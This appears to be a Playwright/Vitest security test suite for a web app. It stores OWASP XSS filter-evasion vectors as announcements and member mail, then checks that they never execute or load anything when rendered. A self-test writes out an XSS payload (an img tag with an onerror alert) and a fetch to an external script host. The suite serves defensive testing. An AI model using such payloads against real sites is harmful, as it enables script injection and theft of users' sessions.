import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { chromiumArgs } from '../../tools/chromium.ts';
import { baseURL } from '../support/browser.ts';
import { apiCall, operatorHeaders, sessionTokenOf } from '../support/member-api.ts';
import {
  auditDom,
  contentType,
  navigateInApp,
  trappedPage,
  type Finding,
  type XssContentType,
} from '../support/xss-harness.ts';
import { xssVectors, type XssVector } from '../support/xss-vectors.ts';
import { freshMember } from './records-support.ts';

// Issue 10 security: the OWASP XSS filter-evasion vectors (support/xss-vectors.ts), stored through
// the operator API as each kind of content, never run or load anything when shown in Chromium
// (ARCHITECTURE "Security": sanitised when stored, again with DOMPurify when shown). A kind of
// content is one entry of `contentTypes` below: its store step and the screens that show it.
let browser: Browser;
beforeAll(async () => {
  browser = await chromium.launch({ executablePath: inject('chromiumPath'), args: chromiumArgs });
});
afterAll(async () => {
  await browser?.close();
});

const RICH = '[data-rich-content]';
// A title carries the start of its vector too: titles are text, never HTML.
const titleOf = (v: XssVector, i: number) =>
  `XSS ${i + 1} ${v.name} ${v.html.replaceAll('\0', '').slice(0, 60)}`.trim();

/** Announcements of type PL in m_home (on /m/message), each vector alone, both languages. */
const announcements: XssContentType<{ ids: number[] }> = {
  name: 'announcement',
  async store(vectors) {
    // Gone again after a while, so the rest of the suite's lists are not longer for it.
    const endDate = new Date(Date.now() + 20 * 60_000).toISOString();
    const ids: number[] = [];
    for (const [i, v] of vectors.entries()) {
      const version = { title: titleOf(v, i), content: v.html };
      const { id } = await apiCall<{ id: number }>('/operator/announcements', {
        method: 'POST',
        headers: operatorHeaders(),
        body: JSON.stringify({ type: 'PL', endDate, versions: { EN: version, BN: version } }),
      });
      ids.push(id);
    }
    return { ids };
  },
  screens: [
    {
      path: '/m/message',
      async show(page, { ids }) {
        await page.goto('/m/message');
        const list = page.getByRole('list', { name: 'Announcements' });
        await list.waitFor();
        for (let i = 0; i < ids.length; i++) {
          const toggle = list.getByRole('button', { name: new RegExp(`^XSS ${i + 1} `) });
          await toggle.click();
          await list.locator('[aria-expanded="true"]').waitFor();
        }
      },
    },
    {
      path: '/m/messageDetail',
      async show(page, { ids }) {
        await page.goto(`/m/messageDetail?id=${ids[0]}`);
        for (const id of ids) {
          await navigateInApp(page, `/m/messageDetail?id=${id}`);
          await page
            .getByRole('article', { name: /^XSS \d+ / })
            .locator(RICH)
            .waitFor({ state: 'attached' });
          await page.waitForFunction(
            (want) => new URLSearchParams(location.search).get('id') === want,
            String(id),
          );
        }
      },
    },
  ],
};

/** Platform mail to one fresh member, each vector one mail; shown on /m/webEmail. */
const mail: XssContentType<{ session: string; count: number }> = {
  name: 'mail',
  async store(vectors) {
    const context = await browser.newContext({ baseURL: baseURL() });
    await context.addInitScript(() => localStorage.setItem('language', 'EN'));
    const page = await context.newPage();
    const { username } = await freshMember(page);
    for (const [i, v] of vectors.entries())
      await apiCall('/operator/mails', {
        method: 'POST',
        headers: operatorHeaders(),
        body: JSON.stringify({ username, title: titleOf(v, i), content: v.html }),
      });
    // The session is handed to the trapped page below.
    expect(await sessionTokenOf(page)).toBeTruthy();
    const session = (await page.evaluate(() => localStorage.getItem('MC_SESSION_INFO')))!;
    await page.context().close();
    return { session, count: vectors.length };
  },
  screens: [
    {
      path: '/m/webEmail',
      async show(page, { session, count }) {
        await page.goto('/m/home');
        await page.evaluate((s) => {
          localStorage.setItem('MC_SESSION_INFO', s);
          localStorage.setItem('language', 'EN');
        }, session);
        await page.goto('/m/webEmail');
        const inbox = page.getByRole('list', { name: 'Platform messages' });
        await inbox.waitFor();
        // Older mail comes a page at a time.
        const more = page.getByRole('button', { name: 'Older messages' });
        const rows = inbox.getByRole('button');
        while ((await rows.count()) < count) {
          const shown = await rows.count();
          await more.click();
          await expect.poll(() => rows.count()).toBeGreaterThan(shown);
        }
        for (let i = 0; i < count; i++) {
          await inbox.getByRole('button', { name: new RegExp(`^XSS ${i + 1} `) }).click();
          await inbox.locator('[aria-expanded="true"]').waitFor();
        }
      },
    },
  ],
};

// Promotions (issue 10's promotions slice) join with one more entry here.
const contentTypes = [contentType(announcements), contentType(mail)];

const describeFindings = (findings: Finding[]) =>
  findings.map((f) => `${f.kind}: ${f.detail} (at ${f.at})`).join('\n');

describe('the harness can fail', () => {
  it('records a script that runs, a dialog and a request to another origin', async () => {
    const { page, context, findings } = await trappedPage(browser, baseURL());
    await page.goto('/m/home');
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<div data-rich-content><img src="/x.png" onerror="alert(\'XSS\')"></div>',
      );
      void fetch('http://xss.rocks/xss.js').catch(() => {});
    });
    await expect.poll(() => findings.map((f) => f.kind).sort()).toEqual(['request', 'script']);
    expect((await auditDom(page, RICH)).map((f) => f.detail)).toEqual([
      'left in the DOM: IMG onerror',
    ]);
    await context.close();
  });
});

describe.each(contentTypes)(
  `OWASP XSS vectors ($name content, ${xssVectors.length} vectors)`,
  (type) => {
    let stored: never;
    beforeAll(async () => {
      stored = (await type.store(xssVectors, baseURL())) as never;
    }, 300_000);

    it.each(type.screens.map((s) => [s.path, s] as const))(
      'never run or load anything on %s',
      async (_path, screen) => {
        const { page, context, findings } = await trappedPage(browser, baseURL(), async (p) => {
          await p.context().addInitScript(() => localStorage.setItem('language', 'EN'));
        });
        await screen.show(page, stored);
        // Late handlers (onload of something that loaded, timers) get a moment.
        await page.waitForTimeout(500);
        findings.push(...(await auditDom(page, RICH)));
        await context.close();
        expect(findings, describeFindings(findings)).toEqual([]);
      },
      300_000,
    );
  },
);
